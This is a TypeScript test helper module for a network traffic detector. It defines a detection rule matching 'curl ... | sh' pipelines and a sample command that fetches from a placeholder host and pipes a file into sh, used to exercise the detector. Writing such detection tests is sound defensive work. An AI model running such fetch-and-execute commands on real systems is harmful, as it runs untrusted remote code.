import * as assert from 'uvu/assert';
import { Inspection } from '../../lib/detector/inspection.ts';
import type { Rule } from '../../lib/detector/rule.ts';
import type { DetectionSettings } from '../../lib/detector/settings.ts';
import type { Sighting, Verdict } from '../../lib/detector/sighting.ts';
import { INSPECTION_SETTINGS } from './inspected_exchange.ts';
import { DOCUMENTATION, KEY } from './key_rule.ts';

export const PIPE: Rule = {
  id: 'pipe',
  pattern: 'pipe_family',
  threat_type: 'INJECTION',
  direction: 'inbound',
  severity: 'medium',
  confidence: 'medium',
  keywords: ['curl'],
  expression: /\bcurl [^\n|]{1,60}\| {0,3}sh\b/g,
  reach: { before: 1, after: 80 },
  ...DOCUMENTATION,
};
export const COMMAND = 'curl -fsS http://x.example/i && cat y | sh';

export const SETTINGS: DetectionSettings = { ...INSPECTION_SETTINGS, dedupWindowMs: 0 };

export interface Message {
  readonly head?: string;
  readonly body?: readonly Uint8Array[];
  readonly trailers?: string;
}
export interface Outcome {
  readonly verdict: Verdict;
  readonly sightings: readonly Sighting[];
  /** `rule location decoding`, for each. */
  readonly found: readonly string[];
}

/** One inspection for all: what an exchange leaves behind would show in the next. */
export const reported: Sighting[] = [];
export const faults: string[] = [];
export const shared = new Inspection(
  SETTINGS,
  [KEY, PIPE],
  (sighting) => reported.push(sighting),
  (message) => faults.push(message),
);

export function inspectionWith(change: Partial<DetectionSettings>, rules = [KEY, PIPE]): Inspection {
  return new Inspection(
    { ...SETTINGS, ...change },
    rules,
    (sighting) => reported.push(sighting),
    (message) => faults.push(message),
  );
}

export const ORIGIN = { protocol: 'http', source: '127.0.0.1', dest: 'files.example:80' } as const;

export function outcome(verdict: Verdict): Outcome {
  const sightings = reported.splice(0);
  for (const sighting of sightings) {
    assert.not.match(JSON.stringify(sighting), /Qm3xT7bL/, 'no byte of the secret beyond its prefix');
  }
  const found = sightings.map(({ rule, location, decoding }) =>
    `${rule.id} ${location} ${decoding.join('+')}`.trim(),
  );
  return { verdict, sightings, found };
}

export async function exchange(
  request: Message,
  response: Message = {},
  inspection = shared,
): Promise<Outcome> {
  const subject = inspection.open(ORIGIN);
  subject.requestHead(request.head ?? 'POST /\nHost: files.example');
  for (const chunk of request.body ?? []) await subject.requestBody(overwritten(chunk));
  await subject.requestEnd(request.trailers ?? '');
  subject.responseHead(response.head ?? '200 OK');
  for (const chunk of response.body ?? []) await subject.responseBody(overwritten(chunk));
  await subject.responseEnd(response.trailers ?? '');
  return outcome(await subject.close('complete'));
}

let last: Buffer | undefined;
/** A chunk as the ring hands it over: the one before is gone. */
export function overwritten(chunk: Uint8Array): Buffer {
  last?.fill(0x2e);
  last = Buffer.from(new SharedArrayBuffer(chunk.length));
  last.set(chunk);
  return last;
}

export const bytewise = (bytes: Buffer) => Array.from(bytes, (_, n) => bytes.subarray(n, n + 1));

/** As Go's encoder writes it: HTML's characters are escaped. */
export const goJson = (text: string) =>
  JSON.stringify(text).replaceAll('&', String.raw`\u0026`).replaceAll('|', String.raw`\u007c`);
